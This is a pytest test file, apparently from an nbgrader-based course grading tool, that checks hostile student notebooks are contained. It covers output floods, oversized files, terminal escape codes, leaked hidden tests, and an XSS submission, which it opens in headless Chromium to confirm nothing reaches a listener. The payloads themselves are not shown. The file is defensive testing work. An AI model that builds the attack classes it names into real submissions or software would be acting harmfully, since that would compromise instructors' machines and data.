    from nbgrader.api import Gradebook
    with Gradebook(f"sqlite:///{graded['course'] / 'gradebook.db'}", "cnnlab") as gb:
        grade = {g.name: g for g in gb.find_submission_notebook(A, A, "fixme").grades}
        assert grade["ex5_test"].manual_score is None and grade["ex5_test"].auto_score == 1


def test_no_sandbox_is_said_on_the_first_line(graded):
    assert "no-sandbox" not in graded["first_report"].splitlines()[0]
    assert graded["report"].splitlines()[0].startswith("WARNING: graded with --no-sandbox")


def test_plain_nbgrader_grades_like_cnnlab_grade(graded):
    plain, stripped = graded["exported"]["plain"], graded["rows"]["stripped"]
    assert {k: v for k, v in plain.items() if k != "student"} == \
        {k: v for k, v in stripped.items() if k != "student"}


def test_feedback_shows_no_hidden_test(graded):
    course = graded["course"]
    html = {}
    for sid in ("intruder",):
        run = subprocess.run([sys.executable, "-m", "nbgrader", "generate_feedback", A,
                              "--student", sid, "--force"], cwd=course, env=graded["env"],
                             capture_output=True, text=True, timeout=300)
        assert run.returncode == 0, run.stderr[-3000:]
        html[sid] = (course / "feedback" / sid / A / f"{A}.html").read_text()
        assert "check_exercise_4" in html[sid]
        assert "HIDDEN TESTS" not in html[sid] and "features holds" not in html[sid]
        # every figure has alternative text (course.AltText): nbconvert warned of none missing
        assert "Alternative text is missing" not in run.stdout + run.stderr, run.stderr[-3000:]
        assert "No description has been provided for this image" not in html[sid]
        assert 'alt="Confusion matrix (fraction of each true class)' in html[sid]
    assert "output removed: it quoted a hidden test" in html["intruder"]  # its print(In)


def _bounded_note(text: str) -> bool:
    """Whether the flood's cell says how its output was bounded: cut at the 4 MB a cell
    keeps, or, where the kernel batched more than 16 MB into one message (a busy machine
    delays its output thread), that message refused and the rest of the cell's output
    lost. Which limit stops it depends on the kernel's timing; one of them must."""
    cut = "output cut: " in text and "over the limit of 4194304 bytes per cell" in text
    return cut or "output lost: the kernel sent a message over the limit of 16 MB" in text


def test_floods_stay_bounded_on_the_host(graded):
    """Output, stderr and files of a kernel: nothing reaches the instructor's disk or the
    grader's memory beyond the limits (cnnlab_course.json: 4 MB of output per cell, 256 kB
    of kernel log per stream, 256 MB per file and for the runtime folder)."""
    course = graded["course"]
    logs = {p.parent.name: p.stat().st_size for p in (course / "grading" / "work").glob(
        "*/nbgrader.log")}
    assert logs and max(logs.values()) < 3 << 20, logs
    notebook = course / "autograded" / "flood" / A / f"{A}.ipynb"
    assert notebook.stat().st_size < 8 << 20
    text = notebook.read_text()
    assert _bounded_note(text), text[-3000:]
    assert "big file stopped: OSError 256 MB" in text  # RLIMIT_FSIZE, not the tmpfs
    assert not list((course / "grading" / "runtime").glob("*/fill*"))
    status = {sid: json.loads((course / "grading" / "status" / f"{sid}.json").read_text())
              for sid in ("flood", "filler", "colab", "forms", "blank")}
    honest = max(status[s]["grading"]["worker_peak_mb"] for s in ("colab", "forms", "blank"))
    assert 0 < status["flood"]["grading"]["worker_peak_mb"] < honest + 300, status["flood"]
    assert status["filler"]["grading"]["worker_peak_mb"] < honest + 300, status["filler"]


def test_hostile_files_leave_the_host_as_it_was(graded):
    """The file cases of the class: nothing of theirs copied into the course, and the
    course folder (what stays on the instructor's disk) small; no sparse gigabytes."""
    course = graded["course"]
    for sid in HOSTILE:
        assert not (course / "submitted" / sid).exists(), sid
        assert not (course / "autograded" / sid).exists(), sid
        assert not (course / "grading" / "originals" / f"{sid}.ipynb").exists(), sid
    used = sum(p.lstat().st_blocks * 512 for p in course.rglob("*"))
    assert used < 300 << 20, used >> 20
    for text in (graded["progress"], graded["first_report"], graded["report"]):
        assert "\x1b" not in text  # a file name or exception name with escape codes, quoted
    assert "\\x1b[1A\\x1b[2K" in graded["first_report"]


def test_feedback_command_is_bounded(graded):
    """``cnnlab_grade.py feedback``: each student under a time limit; the flood's
    feedback stays small; an autograded notebook over the size limit is not converted."""
    course = graded["course"]
    settings = json.loads((course / "cnnlab_course.json").read_text())
    big = course / "autograded" / "huge" / A / f"{A}.ipynb"
    big.parent.mkdir(parents=True)
    with open(big, "wb") as f:
        f.truncate(int(settings.get("max_feedback_mb", 64) * 2**20) + 1)
    try:
        run = _run(["feedback", str(course), "--student", "flood", "--student", "huge",
                    "--student", "forms", "--timeout", "120"], graded["env"], timeout=400)
    finally:
        shutil.rmtree(course / "autograded" / "huge")
        (course / "grading" / "status" / "huge.json").unlink(missing_ok=True)
    html = course / "feedback" / "flood" / A / f"{A}.html"
    assert html.stat().st_size < 12 << 20 and _bounded_note(html.read_text())
    assert (course / "feedback" / "forms" / A / f"{A}.html").exists()
    assert not (course / "feedback" / "huge").exists()
    assert "huge: not written (the autograded notebook is" in run.stdout


# --- what the XSS student wrote, in the instructor's browser --------------------------

def _playwright():
    """Playwright's sync API, or a skip saying what is missing."""
    sync_api = pytest.importorskip("playwright.sync_api",
                                   reason="the playwright Python package is not installed")
    if not os.path.exists(CHROMIUM):
        pytest.skip(f"{CHROMIUM} is absent: run .ci/install-browser.sh (apt-get install chromium)")
    return sync_api


def _inert_in_chromium(url: str, listener, check_page):
    """Opens ``url`` in headless Chromium, lets ``check_page(page)`` see what it shows, waits
    for anything the page would still send, then: nothing reached ``listener``."""
    with _playwright().sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_FLAGS,
                                             headless=True)
        try:
            page = browser.new_page()
            page.set_default_timeout(30_000)
            page.goto(url, wait_until="domcontentloaded")  # "load" waits on CDN scripts
            check_page(page)
            page.wait_for_timeout(2000)  # a script's fetch, then its beacon
        finally:
            browser.close()
    time.sleep(1)  # the listener accepts every 0.5 s
    assert listener.received == []


@pytest.mark.browser
def test_formgrader_shows_the_xss_submission_inert(graded, tmp_path):
    """formgrader started for real in the course folder: the manual-grading page of the XSS
    submission shows its markdown and outputs, and none of its scripts runs."""
    _playwright()
    from nbgrader.api import Gradebook
    course, listener = graded["course"], graded["xss_listener"]
    stored = (course / "autograded" / "xss" / A / f"{A}.ipynb").read_text()
    assert "X-XSRFToken" in stored  # the payloads are in the notebook shown, made inert
    assert "application/javascript" not in stored and "shown as text, not rendered" in stored
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", "cnnlab") as gb:
        submission = gb.find_submission_notebook(A, A, "xss").id
    (tmp_path / "jupyter-path").mkdir()
    env = jupyter_environment(tmp_path, tmp_path / "jupyter-path")
    env["PATH"] = graded["env"]["PATH"]  # nbgrader runs alembic from PATH

    def shows_the_submission(page):
        page.get_by_text(f"{XSS_HONEST}: my notes").wait_for()
        assert page.locator("strong", has_text="in bold").first.is_visible()
        assert page.get_by_text(XSS_ANSWER).first.is_visible()  # the written answer
        assert page.get_by_text("shown as text, not rendered").count() >= 6
        assert page.locator("input.score").count() >= 6  # formgrader's own page and scripts
        page.locator(f"#{XSS_ANSWER_ID}-comment").wait_for()

    with running_jupyterlab(course, env, tmp_path / "formgrader.log") as base:
        _inert_in_chromium(f"{base}/formgrader/submissions/{submission}/?token={BROWSER_TOKEN}",
                           listener, shows_the_submission)


@pytest.mark.browser
def test_feedback_of_the_xss_submission_is_inert(graded):
    """The feedback HTML of the XSS submission, opened in Chromium: shown, figures included;
    nothing sent."""
    _playwright()
    course = graded["course"]
    run = subprocess.run([sys.executable, "-m", "nbgrader", "generate_feedback", A, "--student",
                          "xss", "--force"], cwd=course, env=graded["env"], capture_output=True,
                         text=True, timeout=300)
    assert run.returncode == 0, run.stderr[-3000:]
    html = course / "feedback" / "xss" / A / f"{A}.html"

    def shows_the_submission(page):
        page.get_by_text(f"{XSS_HONEST}: my notes").wait_for()
        assert page.get_by_text(XSS_ANSWER).first.is_visible()
        assert page.locator("img[src^='data:image/png']").count() >= 2  # the lesson's, its own

    _inert_in_chromium(html.as_uri(), graded["xss_listener"], shows_the_submission)
    found = live_payloads(html.read_text(), graded["xss_listener"].port)
    assert found.live == [] and found.shown >= 8
